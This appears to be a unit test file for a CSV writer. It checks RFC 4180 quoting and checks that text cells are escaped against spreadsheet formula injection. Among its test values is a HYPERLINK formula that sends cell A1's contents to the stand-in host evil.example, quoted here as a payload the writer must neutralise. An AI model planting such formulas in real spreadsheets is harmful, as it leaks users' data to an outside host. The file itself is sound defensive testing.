// The one CSV writer: RFC 4180 quoting, text cells neutralised against formula injection, numbers kept
// numbers, and the reading rule that gives every text back.
import { expect } from 'chai';
import { parse } from 'csv-parse/sync';
import { csvField, csvTable, restoredText } from '../../../src/domain/csv.js';
import { FORMULA_NAMES } from '../../support/formula-names.js';

describe('CSV writer', () => {
  it('quotes per RFC 4180, writes numbers as they are and null as an empty field', () => {
    expect(csvTable([['a', 'b, c', 'say "hi"', 'two\nlines'], [1, -1, 0.5, null]])).to.equal('a,"b, c","say ""hi""","two\nlines"\r\n1,-1,0.5,\r\n');
  });

  it('puts a quote before a text cell a spreadsheet would run, never before a number', () => {
    expect(FORMULA_NAMES.map(([name]) => csvField(name))).to.deep.equal([
      `"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`, "'+1", "'-2", "'@x", "'\tTabbed", `"'\rReturned"`, "''=quoted already", 'plain - name',
    ]);
    expect([csvField(-2), csvField('-'), csvField("'"), csvField("'a"), csvField('a=b')]).to.deep.equal(['-2', "'-", "'", "'a", 'a=b']);
  });

  it('reads back every text exactly as it was before writing', () => {
    const texts = [...FORMULA_NAMES.map(([name]) => name), "''@x", "'", "'a", '', '=', "'''-"];
    const [row] = parse(csvTable([texts]), { relax_quotes: false }) as string[][];
    expect(row!.map(restoredText)).to.deep.equal(texts);
  });
});
